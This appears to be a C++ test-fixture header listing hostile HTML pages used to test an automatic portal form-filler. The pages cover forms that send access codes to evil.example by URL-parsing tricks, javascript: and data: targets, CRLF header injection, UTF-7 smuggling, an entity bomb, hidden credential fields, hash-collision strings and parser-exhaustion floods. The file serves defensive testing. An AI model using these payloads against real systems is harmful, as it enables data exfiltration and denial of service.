/* SPDX-FileCopyrightText: 2026 The Project Authors
 * SPDX-License-Identifier: LGPL-2.1-or-later
 */

#pragma once

#include <string>

/* A page of a portal that was broken into. Whatever it is, an answer goes to the portal or nowhere,
 * and what must not be sent is not. */
struct HostilePage
{
  const char *name;
  std::string html;
  bool is_sent;      /* by the program, without asking */
  const char *never; /* is not in the request */
  const char *charset = "utf-8";
};

/* clang-format off */
namespace hostile
{

#define CODE "<label>Access Code <input name=c></label>"
#define EMAIL "<label>Email <input name=e></label>"
#define SUBMIT "<button>Submit</button>"
#define FORM(inner) "<form method=post action=/send>" inner SUBMIT "</form>"
#define FORM_TO(target) "<form method=post action=\"" target "\">" CODE SUBMIT "</form>"

inline std::string
Times (int n, const std::string &text)
{
  std::string all;

  for (int i = 0; i < n; i++)
    all += text;
  return all;
}

inline std::string
Attributes (int n)
{
  std::string all;

  for (int i = 0; i < n; i++)
    all += " a" + std::to_string (i);
  return all;
}

inline std::string
Utf16 (const std::string &text)
{
  std::string wide = "\xff\xfe";

  for (char c : text)
    wide += std::string (1, c) + std::string (1, '\0');
  return wide;
}

/* Texts that g_str_hash() takes for one: 33 * 'A' + 'z' is 33 * 'B' + 'Y'. */
inline std::string
Alike (int n, const std::string &before)
{
  std::string all;

  for (int i = 0; i < n; i++)
    {
      all += before;
      for (int bit = 0; bit < 15; bit++)
        all += (i >> bit & 1) != 0 ? "Az" : "BY";
      all += '>';
    }
  return all;
}

const HostilePage pages[] = {
  /* where the answers go */
  { "Elsewhere", FORM_TO ("https://evil.example/"), false, "C0de" },
  { "ElsewhereWithoutScheme", FORM_TO ("//evil.example/"), false, "C0de" },
  { "Http", FORM_TO ("http://portal.example.edu/send"), false, "C0de" },
  { "OtherPort", FORM_TO ("https://portal.example.edu:8443/"), false, "C0de" },
  { "User", FORM_TO ("https://portal.example.edu@evil.example/"), false, "C0de" },
  { "Suffix", FORM_TO ("https://portal.example.edu.evil.example/"), false, "C0de" },
  { "Javascript", FORM_TO ("javascript:alert(1)"), false, "C0de" },
  { "JavascriptWithAHost", FORM_TO ("javascript://portal.example.edu/%0ax()"), false, "C0de" },
  { "Data", FORM_TO ("data:text/html,x"), false, "C0de" },
  { "Mail", FORM_TO ("mailto:evil@evil.example"), false, "C0de" },
  { "Backslashes", FORM_TO ("\\\\evil.example/"), false, "C0de" },
  { "SlashAndBackslash", FORM_TO ("/\\evil.example/"), false, "C0de" },
  { "TabBetweenSlashes", FORM_TO ("/\t/evil.example/"), false, "C0de" },
  { "ThreeSlashes", FORM_TO ("///evil.example/"), false, "C0de" },
  { "OneSlash", FORM_TO ("https:/evil.example/"), false, "C0de" },
  { "LookAlike", FORM_TO ("https://portal.ex\xd0\xb0mple.edu/"), false, "C0de" },
  { "Base", "<base href='https://evil.example/'><form method=post action=send>" CODE SUBMIT "</form>", false, "C0de" },
  { "BaseInTheBody", "<p>x</p><base href='//evil.example/'><form method=post action=send>" CODE SUBMIT "</form>", false, "C0de" },
  { "BaseThatIsNone", "<base href='javascript:x'><form method=post action=/send>" CODE SUBMIT "</form>", true, "evil" },
  { "Formaction", "<form method=post action=/send>" CODE "<button formaction='https://evil.example/'>Submit</button></form>", false, "C0de" },
  { "FormactionScript", "<form method=post action=/send>" CODE "<button formaction='javascript:x()'>Submit</button></form>", false, "C0de" },
  { "FormactionOfAPicture", "<form method=post action=/send>" CODE "<input type=image alt=Submit formaction='//evil.example/'></form>", false, "C0de" },
  { "FormactionOfNothing", "<form method=post action='https://evil.example/'>" CODE "<button formaction='' formmethod=post>Submit</button></form>", true, "evil" },
  { "Dialog", "<form method=dialog action=/send>" CODE SUBMIT "</form>", false, "C0de" },
  { "FormmethodDialog", "<form method=post action=/send>" CODE "<button formmethod=dialog>Submit</button></form>", false, "C0de" },
  { "TextPlain", "<form method=post enctype=text/plain action=/send>" CODE SUBMIT "</form>", true, "evil" },
  { "LinkInsteadOfAButton", "<form method=post action=/send>" CODE "</form><a href='https://evil.example/'>Submit</a>", false, "C0de" },
  { "DownloadElsewhere", "<p>Ready</p><a href='https://evil.example/c.p12'>Download</a>", false, "" },
  { "DownloadByScript", "<p>Ready</p><a href='javascript:x()'>Download</a>", false, "" },
  { "RefreshElsewhere", "<meta http-equiv=refresh content='0;url=https://evil.example/'>", false, "" },
  { "RefreshToAScript", "<meta http-equiv=refresh content='0;url=javascript:x()'>", false, "" },
  { "RefreshHttp", "<meta http-equiv=refresh content='0;url=http://portal.example.edu/'>", false, "" },

  /* which form it is */
  { "FieldOfAnotherForm", "<form id=x method=post action='https://evil.example/'></form><form method=post action=/send><label>Access Code <input name=c form=x></label>" SUBMIT "</form>", false, "C0de" },
  { "ButtonOfAnotherForm", "<form id=x method=post action='https://evil.example/'></form><form method=post action=/send>" CODE "<button form=x>Submit</button></form>", false, "C0de" },
  { "FieldsWithoutAForm", CODE SUBMIT, false, "C0de" },
  { "TwoForms", FORM (EMAIL CODE) FORM_TO ("https://evil.example/"), true, "evil" },
  { "FormInATemplate", "<template>" FORM_TO ("https://evil.example/") "</template>", false, "C0de" },
  { "FormInAComment", "<!-- " FORM (CODE) " -->" FORM_TO ("https://evil.example/"), false, "C0de" },
  { "FormInAScript", "<script>var x = '" FORM_TO ("//evil.example/") "';</script>", false, "C0de" },
  { "ButtonThatLeadsAway", "<form method=post action=/send>" EMAIL "<button aria-label=Revoke>Submit</button></form>", false, "" },
  { "RevokeAlone", "<form method=post action=/send>" EMAIL "<button>Revoke</button></form>", false, "" },

  /* what nobody sees is not filled */
  { "HiddenAddress", FORM ("<input type=hidden name=e aria-label=Email>" CODE), true, "alice" },
  { "AddressThatIsNotShown", FORM ("<div style='display: none'>" EMAIL "</div>" CODE), true, "alice" },
  { "AddressOfNobody", FORM ("<div hidden>" EMAIL "</div>" CODE), true, "alice" },
  { "AddressForNoReader", FORM ("<div aria-hidden=true>" EMAIL "</div>" CODE), true, "alice" },
  { "AddressInvisible", FORM ("<p style='visibility:hidden'>" EMAIL "</p>" CODE), true, "alice" },
  { "HiddenCode", FORM ("<div style='display:none'>" CODE "</div>" EMAIL), true, "C0de" },
  { "HiddenPassword", FORM (EMAIL "<div hidden><label>Password <input type=password name=p></label></div>"), true, "1nvented" },
  { "HiddenPassPhrase", FORM (EMAIL "<div hidden><label>Pass-phrase <input type=password name=p></label></div>"), true, "Phr4se" },
  { "HiddenTerms", FORM (EMAIL "<div hidden><label><input type=checkbox name=terms value=acc3pted>I agree to the terms</label></div>"), true, "acc3pted" },
  { "DisabledCode", FORM (EMAIL "<fieldset disabled>" CODE "</fieldset>"), true, "C0de" },

  /* what only the user says */
  { "Terms", FORM (EMAIL "<label><input type=checkbox name=terms value=acc3pted>I agree to the terms</label>"), false, "acc3pted" },
  { "TermsTicked", FORM (EMAIL "<label><input type=checkbox name=terms checked>I agree to the terms</label>"), false, "" },
  { "AcceptButton", "<form method=post action=/send><p>Terms</p><button>I Agree</button></form>", false, "" },
  { "CampusPassword", FORM (EMAIL "<label>Campus password <input type=password name=p></label>"), false, "1nvented" },
  { "MailPassword", FORM (EMAIL "<label>E-mail password <input type=password name=p required></label>"), false, "1nvented" },
  { "AnyPassword", FORM (EMAIL "<label>Password <input type=password name=p></label>"), false, "1nvented" },
  { "PasswordAsText", FORM (EMAIL "<label>Password <input name=p></label>"), true, "1nvented" },
  { "UserNameAndPassword", FORM ("<label>Username <input name=u></label><label>Password <input type=password name=p></label>"), false, "1nvented" },
  { "PasswordOfTheLogin", FORM (EMAIL "<label>Password for the campus login <input type=password name=p></label>"), false, "1nvented" },
  { "PasswordWithTheRequest", FORM ("<label>First Name <input name=f value=Alice></label><label>Mail password <input type=password name=p></label>"), false, "1nvented" },
  { "SignInPage", FORM ("<label>NetID <input name=u></label><label>NetID password <input type=password name=p></label>"), false, "1nvented" },

  /* whose certificate it is */
  { "AddressOfSomebodyElse", FORM ("<label>Email <input name=e value=mallory@evil.example readonly></label>" CODE), false, "C0de" },
  { "ChoiceOfOtherAddresses", FORM ("<label>Email <select name=e><option>mallory@evil.example</select></label>" CODE), false, "C0de" },
  { "NameThatIsThere", FORM (EMAIL "<label>First Name <input name=f value=Al1ce></label><label>Last Name <input name=l value=X></label>"), true, "Mallory" },

  /* what it is written in */
  { "LineBreakInAName", "<form method=post enctype=multipart/form-data action=/send>" CODE "<input type=hidden name='x&#13;&#10;X-Evil: y' value=z>" SUBMIT "</form>", true, "\r\nX-Evil" },
  { "QuoteInAName", "<form method=post enctype=multipart/form-data action=/send>" CODE "<input type=hidden name='x\"; y=\"z' value=z>" SUBMIT "</form>", true, "\"; y=" },
  { "Utf7", "<meta charset=utf-7>+ADw-form method+AD0-post action+AD0-https://evil.example/+AD4-" CODE SUBMIT, false, "C0de" },
  { "Utf7ByHeader", "+ADw-form method+AD0-post action+AD0-https://evil.example/+AD4-" CODE SUBMIT, false, "C0de", "utf-7" },
  { "UnknownCharset", FORM_TO ("https://evil.example/"), false, "C0de", "x-evil" },
  { "EntityBomb", "<!DOCTYPE html [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;'>]>" FORM ("<label>&c;&c;&c; <input name=x></label>" CODE), true, "evil" },
  { "LabelCycle", FORM ("<span id=a aria-labelledby=b>x</span><span id=b aria-labelledby=a>y</span><input name=x aria-labelledby='a b a b'>" CODE), true, "evil" },
  { "LabelOfItself", FORM ("<input id=a name=x aria-labelledby=a>" CODE), true, "evil" },
  { "NulInTheAction", std::string ("<form method=post action='https://evil.example\0.portal.example.edu/'>", 67) + CODE SUBMIT "</form>", false, "C0de" },

  /* how much it is */
  { "AttributeFlood", "<p" + Attributes (100000) + ">x</p>" FORM (CODE), false, "" },
  { "AttributeFloodInUtf16", Utf16 ("<p" + Attributes (60000) + ">x</p>" FORM (CODE)), false, "", nullptr },
  { "AttributeFloodAfterAQuote", "<p a=/\" =\" 1=\" b==\" c=d\" \"" + Attributes (100000) + ">x</p>" FORM (CODE), false, "" },
  { "AttributeFloodInUtf7", "<meta charset=utf-7>+ADw-p" + Attributes (100000) + "+AD4-x", false, "" },
  { "ManyAttributesInManyTags", Times (600, "<p" + Attributes (300) + ">x</p>"), false, "" },
  { "Depth", Times (100000, "<div>") + FORM_TO ("https://evil.example/"), false, "C0de" },
  { "DepthOfForms", Times (50000, "<form action=//evil.example/>") + CODE SUBMIT, false, "C0de" },
  { "TagsWithoutEnd", Times (300000, "<b>") + FORM_TO ("https://evil.example/"), false, "C0de" },
  { "AnglesWithoutEnd", std::string (1 << 20, '<'), false, "" },
  { "QuotesWithoutEnd", "<p a=\"" + std::string (1 << 20, 'x'), false, "" },
  { "CommentWithoutEnd", "<!--" + std::string (1 << 20, '-'), false, "" },
  { "OptionFlood", FORM_TO ("https://evil.example/") "<select>" + Times (100000, "<option>"), false, "C0de" },
  { "ControlFlood", "<form action=//evil.example/>" + Times (50000, "<input>") + "</form>", false, "" },
  { "TextFlood", Times (100000, "an invitation was not used ") + FORM_TO ("https://evil.example/"), false, "C0de" },
  { "AlertFlood", Times (170, Times (240, "<b role=alert>") + Times (60, "words and words ") + Times (240, "</b>")) + FORM_TO ("https://evil.example/"), false, "C0de" },
  { "OneTextForAll", "<form action=//evil.example/><div id=a>" + Times (150000, "<img>") + "</div>" + Times (2000, "<input aria-labelledby='" + Times (32, "a ") + "'>") + CODE SUBMIT, false, "C0de" },
  { "OneDocumentForAll", "<form action=//evil.example/><div id=a>" + Times (140000, "terms ") + "</div>" + Times (1900, "<input type=checkbox aria-describedby='" + Times (32, "a ") + "'>") + CODE SUBMIT, false, "C0de" },
  { "LongHints", "<p id=a>" + Times (160, "words ") + "<form action=//evil.example/>" + Times (1900, "<input aria-describedby='" + Times (32, "a ") + "'>") + CODE SUBMIT, false, "C0de" },
  { "CellsAbove", "<form action=//evil.example/><table><tr>" + Times (120000, "<td>") + "<tr>" + Times (110000, "<td>") + Times (1900, "<td><input>") + CODE SUBMIT, false, "C0de" },
  { "NoLinkForAll", "<form action=//evil.example/>" + Times (128000, "<!---->") + Times (1900, "<input type=checkbox>") + CODE SUBMIT, false, "C0de" },
  { "SelectsInSelects", "<form action=//evil.example/>" + Times (230, "<select>") + Times (110000, "<option>a"), false, "C0de" },
  { "LabelOfAGroup", "<form action=//evil.example/><div role=group aria-label='" + Times (150000, "words ") + "'>" + Times (1900, "<input type=radio>") + CODE SUBMIT, false, "C0de" },
  { "IdsAlike", Alike (27000, "<p id=") + FORM_TO ("https://evil.example/"), false, "C0de" },
  { "EntityFlood", FORM_TO ("https://evil.example/") + Times (200000, "&amp;"), false, "C0de" },
};

#undef CODE
#undef EMAIL
#undef SUBMIT
#undef FORM
#undef FORM_TO

}
/* clang-format on */
